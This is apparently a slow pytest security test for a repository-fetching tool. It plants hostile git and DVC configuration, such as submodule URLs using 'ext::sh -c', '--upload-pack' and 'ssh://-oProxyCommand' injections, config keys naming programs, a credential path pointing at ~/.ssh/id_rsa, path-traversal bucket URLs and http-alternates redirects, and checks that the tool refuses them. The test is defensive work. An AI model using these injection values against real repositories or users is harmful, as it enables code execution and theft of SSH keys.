"""What configuration, git itself and servers could make a victim run or ask."""

import http.server
import subprocess
from pathlib import Path

import pytest

from tests.hostile import GOOD, PLANTED, SPOOF, Attempt, Canary, Meet, Repository, Serve, card_of, check, fetch

pytestmark = pytest.mark.slow


def test_configuration_and_git(tmp_path: Path, canary: Canary, meet: Meet, serving: Serve):
    victim, hostile = meet(), Repository(tmp_path / "attacker")
    planted = tmp_path / PLANTED
    tree, good = hostile.listed(GOOD), card_of(GOOD)
    run = f"touch {planted};"
    attempts = []
    config = f"[core]\nremote = s\nsite_cache_dir = {victim.home}\n['remote \"s\"']\nurl = {hostile.store}\n"
    config += f"endpointurl = {canary.address}\ncredentialpath = {victim.home}/.ssh/id_rsa\n"
    obeyed = {
        "`endpointurl`, `credentialpath`, `site_cache_dir`": {".dvc/config": config.encode()},
        ".dvc/config.local with another remote": {".dvc/config.local": b"[core]\nremote = x\n"},
        ".gitattributes with filters and LFS": {".gitattributes": b"* filter=lfs diff=lfs merge=lfs\n* filter=x"},
        ".gitmodules with `ext::`": {
            ".gitmodules": f'[submodule "x"]\npath = x\nurl = "ext::sh -c {run}"\n'.encode(),
            "x": ("160000", b""),
        },
        ".lfsconfig with an address": {".lfsconfig": f"[lfs]\nurl = {canary.address}\n".encode()},
        "dvc.yaml with stages and plug-ins": {
            "dvc.yaml": f"artifacts: {{tokenizer: {{path: models/spm}}}}\nstages: {{x: {{cmd: '{run}'}}}}".encode(),
            "sitecustomize.py": b"raise SystemExit(9)",
            ".dvc/plugins/x.py": b"raise SystemExit(9)",
        },
    }
    for title, other in obeyed.items():
        attempts.append(Attempt(title, fetch(hostile, hostile.release(tree, good, other=other)), "notes", works=True))
    for url in (
        canary.address,
        "s3://b/x",
        "ssh://-oProxyCommand=x/y",
        "gs://b%2f..%2f..%2fo/x",
        "gs://b/../x",
        "gs://b/*",
    ):
        other = {".dvc/config": f"[core]\nremote=s\n['remote \"s\"']\nurl={url}\n".encode()}
        title = f"the remote's url is `{url if url != canary.address else 'http://…'}`"
        attempts.append(
            Attempt(title, fetch(hostile, hostile.release(tree, good, other=other)), "expected gs://BUCKET")
        )
    shadow = hostile.listed({"spiece.model": b"of the one who may push branches only"})
    hostile.release(tree, good, "v2.0.0")
    hostile.release(shadow, version="", branch="heads/tokenizer@v2.0.0")
    attempts.append(Attempt("a branch with the name of a tag", fetch(hostile, "v2.0.0"), "notes", works=True))
    hostile.release(shadow, version="", branch="heads/tokenizer@v2.0.1")
    attempts.append(Attempt("a branch where there is no tag", fetch(hostile, "v2.0.1"), "has no version"))
    version = hostile.release(tree, annotated=False)
    attempts.append(Attempt("a tag without a message", fetch(hostile, version), "MD5 alone", works=True))
    hostile.finish()
    hostile.git("update-ref", "refs/heads/refs/tags/tokenizer@v9.9.9", "refs/tags/tokenizer@v2.0.0^{commit}")
    attempts.append(Attempt("a branch `refs/tags/…`", fetch(hostile, "v9.9.9"), "has no version"))
    addresses = {
        "`--repo ext::sh -c …`": f"ext::sh -c '{run}'",
        "`--repo --upload-pack=…`": f"--upload-pack={run}",
        "`--repo ssh://-oProxyCommand=…`": f"ssh://-oProxyCommand={run}/x",
        "`--repo fd::3`": "fd::3",
        "`--repo` of a helper in PATH": "planted::x",
        "`--repo` with line breaks": f"file:///x\n{SPOOF}",
    }
    for title, address in addresses.items():
        attempts.append(Attempt(title, ["fetch", "v1.0.0", f"--repo={address}"], "cannot read|got '"))
        attempts.append(Attempt(title, ["versions", f"--repo={address}"], "cannot read|got '"))
    attempts.append(
        Attempt(
            "a version that is an option",
            ["fetch", "--repo", hostile.address, "--", f"--exec={run}"],
            "expected a version",
        )
    )
    attempts += _folder_attempts(hostile, tmp_path, run)
    attempts += _server_attempts(hostile, tmp_path, canary, serving)
    check(attempts, victim, tmp_path, canary)
    assert not (victim.folder / "credentials").exists()


def _folder_attempts(hostile: Repository, tmp_path: Path, run: str) -> list[Attempt]:
    """A folder with a repository in it, as an archive holds it: its .git/config names programs."""
    folder = tmp_path / "archive"
    subprocess.run(["git", "clone", "-q", hostile.address, folder], check=True)
    program = folder / "program"
    program.write_text(f"#!/bin/sh\n{run}\n")
    program.chmod(0o755)
    for name, value in {
        "core.sshCommand": program,
        "core.fsmonitor": program,
        "core.hooksPath": folder,
        "core.alternateRefsCommand": program,
        "core.pager": program,
        "uploadpack.packObjectsHook": program,
        "remote.origin.url": "ssh://nowhere/x",
        "remote.origin.promisor": "true",
        "remote.origin.uploadpack": program,
        "extensions.partialClone": "origin",
        "core.repositoryFormatVersion": "1",
        "protocol.ext.allow": "always",
        "credential.helper": f"!{run}",
        "gpg.program": program,
        "fetch.recurseSubmodules": "true",
        "alias.fetch": f"!{run}",
    }.items():
        subprocess.run(["git", "config", name, str(value)], cwd=folder, check=True)
    for hook in ("post-checkout", "reference-transaction", "pre-auto-gc", "post-upload-pack"):
        (folder / hook).symlink_to(program)
    repo = ["--repo", str(folder)]
    output = ["--output", "output/folder"]
    gone = tmp_path / "archive/.git/refs/tags/tokenizer@v8.0.0"
    gone.parent.mkdir(parents=True, exist_ok=True)
    gone.write_text("1" * 40 + "\n")  # a promisor's object, which git asks the remote for when it is read
    return [
        Attempt(
            "an archive whose .git/config names programs: fetch",
            ["fetch", "v2.0.0", *repo, *output],
            "notes",
            works=True,
        ),
        Attempt("the same: a version that is not there", ["fetch", "v7.0.0", *repo, *output], "has no version"),
        Attempt(
            "the same: an object that a promisor has", ["fetch", "v8.0.0", *repo, *output], "cannot read|has no version"
        ),
        Attempt("the same: versions", ["versions", *repo], "v2.0.0|cannot read", works=False),
    ]


def _server_attempts(hostile: Repository, tmp_path: Path, canary: Canary, serving: Serve) -> list[Attempt]:
    """A web server that serves files as git asks for them, and sends it on to others."""
    hostile.git("update-server-info")
    (hostile.folder / "objects/info/http-alternates").write_text(f"{canary.address}/objects\n")
    for pack in (hostile.folder / "objects/pack").glob("*.pack"):
        (tmp_path / pack.name).write_bytes(pack.read_bytes())
    files = {path: path.read_bytes() for path in hostile.folder.rglob("*") if path.is_file()}

    def answer(asked: http.server.BaseHTTPRequestHandler) -> None:
        path = hostile.folder / asked.path.partition("?")[0].lstrip("/").partition("/")[2]
        content = files.get(path, b"") if not path.name.endswith(".pack") else b""
        asked.send_response(200 if content else 404)
        asked.send_header("Content-Length", str(len(content)))
        asked.end_headers()
        asked.wfile.write(content)

    address = serving(answer)
    comes = "cannot read"
    return [Attempt("`http-alternates` that name another server", ["fetch", "v2.0.0", "--repo", f"{address}/x"], comes)]
